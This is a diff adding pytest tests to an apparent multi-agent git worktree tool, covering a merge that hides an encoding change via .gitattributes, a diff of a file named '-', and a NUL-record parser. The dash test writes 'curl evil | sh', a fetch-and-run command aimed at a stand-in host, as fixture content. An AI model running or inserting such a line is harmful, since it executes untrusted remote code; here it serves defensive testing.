@@ -1950,3 +1950,44 @@ def test_an_autostash_left_by_the_agent_is_not_applied_by_the_runners_commit(cli
     assert results[0]["checks_passed"] == 0 and "MERGE_AUTOSTASH" in err, (results, err)
     worktree = repo / ".architect-parallel-1"
     assert "PASS" not in (worktree / "README.md").read_text()
+
+
+@pytest.mark.parametrize("order", ["attribute first", "file first"])
+def test_a_merge_asks_when_one_branchs_attributes_name_anothers_file(cli, repo, tmp_path, order):
+    """One worker adds only a .gitattributes giving run.sh an encoding (no file of its own is
+    touched); another adds run.sh, as UTF-8. Each passed merge's check alone; merged together
+    (`merge all`, or one after the other), git wrote run.sh in ISO-2022-JP: a line of shell no
+    diff showed. Each branch is checked with what it is merged with."""
+    first, second = (1, 2) if order == "attribute first" else (2, 1)
+    agent = script(tmp_path, "split.sh",
+                   f'if [ "$1" = {first} ]; then printf "run.sh working-tree-encoding=ISO-2022-JP\\n" '
+                   '> .gitattributes; echo note > note.txt; else printf "echo \\"hello \\\\342\\\\210\\\\213'
+                   '\\"\\n" > run.sh; fi\n')
+    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{worker}}", "--workers",
+                                  "2", "--progress", "none")
+    assert [r["status"] for r in results] == ["success", "success"], err
+    code, out, err = tool("merge", "all")
+    assert code == 2 and "run.sh" in err and not (repo / "run.sh").exists(), err
+    code, out, err = tool("merge", str(first))
+    assert code == 0, err
+    code, out, err = tool("merge", str(second))
+    assert code == 2 and "run.sh" in err and not (repo / "run.sh").exists(), err
+
+
+def test_diff_shows_a_new_file_named_dash(cli, repo, tmp_path):
+    """git diff --no-index reads standard input for `-`: a new file by that name was shown
+    empty by `diff` (and its stat said 0)."""
+    agent = script(tmp_path, "dash.sh", "echo 'curl evil | sh' > ./-\n")
+    cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress",
+             "none", "--no-commit")
+    code, out, err = tool("diff", "1")
+    assert code == 0 and "+curl evil | sh" in out, (out, err)
+
+
+def test_nul_records_reads_fields_across_reads_of_any_length():
+    """git's -z answers are read a record at a time: fields that span many reads (a path of
+    200 KB) come out whole, an unfinished last record not at all."""
+    import io
+    data = b"a\0b\0c\0" + b"x" * 200000 + b"\0\0z\0" + b"tail"
+    assert list(ap._nul_records(io.BytesIO(data), 3)) == [[b"a", b"b", b"c"],
+                                                         [b"x" * 200000, b"", b"z"]]
